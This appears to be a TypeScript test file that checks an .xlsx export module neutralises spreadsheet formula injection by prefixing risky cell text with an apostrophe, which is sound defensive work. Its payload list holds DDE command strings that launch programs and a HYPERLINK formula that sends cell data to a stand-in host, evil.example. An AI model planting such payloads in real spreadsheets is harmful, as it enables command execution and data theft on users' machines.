import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { buildWorkbook, inertCellText, sheetCellValue, workbookBuffer } from './write.server.ts'

/** Payloads a spreadsheet program would run as formulas (OWASP CSV injection). */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=1+1',
]

async function cellsOf(buffer: Buffer): Promise<ExcelJS.Cell[]> {
  const book = new ExcelJS.Workbook()
  await book.xlsx.load(buffer as unknown as ExcelJS.Buffer)
  const cells: ExcelJS.Cell[] = []
  book.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push(cell)))
  return cells
}

describe('inertCellText', () => {
  it('puts an apostrophe before text a spreadsheet would take for a formula', () => {
    for (const payload of FORMULAS) expect(inertCellText(payload), JSON.stringify(payload)).toBe(`'${payload}`)
  })

  it('leaves ordinary text, plain signed numbers and lone characters alone', () => {
    for (const text of ['张三', '合格', '110105********1234', '138****5678', '-5', '+3.5', '-0.25', '-', '+', '', 'a=b', ' =1+1', '（=1）'])
      expect(inertCellText(text), JSON.stringify(text)).toBe(text)
  })

  it('is idempotent in effect: an inert value stays inert and is not changed again', () => {
    const once = inertCellText('=1+1')
    expect(inertCellText(once)).toBe(once)
  })
})

describe('sheetCellValue', () => {
  it('makes strings inert in any column and keeps numbers as numbers outside text columns', () => {
    expect(sheetCellValue({ header: '姓名' }, '=1+1')).toBe("'=1+1")
    expect(sheetCellValue({ header: '学时' }, 12)).toBe(12)
    expect(sheetCellValue({ header: '证号', text: true }, 12)).toBe('12')
    expect(sheetCellValue({ header: '证号', text: true }, null)).toBeNull()
  })
})

describe('.xlsx writers', () => {
  // XML reads a carriage return back as a line feed, so that payload is left to the unit tests above.
  const written = FORMULAS.filter((f) => !f.startsWith('\r'))

  it('buildWorkbook writes every user text as an inert string cell: title, header and rows', async () => {
    const buffer = await buildWorkbook([
      {
        name: '导出',
        title: ['=HYPERLINK("http://evil.example","报表")'],
        columns: [{ header: '姓名' }, { header: '备注', text: true }, { header: '学时' }],
        rows: written.map((f) => [f, f, 3]),
      },
    ])
    const cells = await cellsOf(buffer)
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false)
    const texts = cells.filter((c) => typeof c.value === 'string').map((c) => c.value as string)
    for (const payload of written) expect(texts.filter((t) => t === `'${payload}`)).toHaveLength(2)
    expect(texts).toContain('\'=HYPERLINK("http://evil.example","报表")')
    expect(cells.filter((c) => c.value === 3)).toHaveLength(written.length)
  })

  it('workbookBuffer does the same for workbooks laid out by hand with exceljs', async () => {
    const book = new ExcelJS.Workbook()
    const sheet = book.addWorksheet('a')
    sheet.addRow(['标题', 1])
    sheet.addRow(written)
    const cells = await cellsOf(await workbookBuffer(book))
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false)
    const texts = cells.map((c) => c.value)
    expect(texts).toEqual(['标题', 1, ...written.map((f) => `'${f}`)])
  })
})
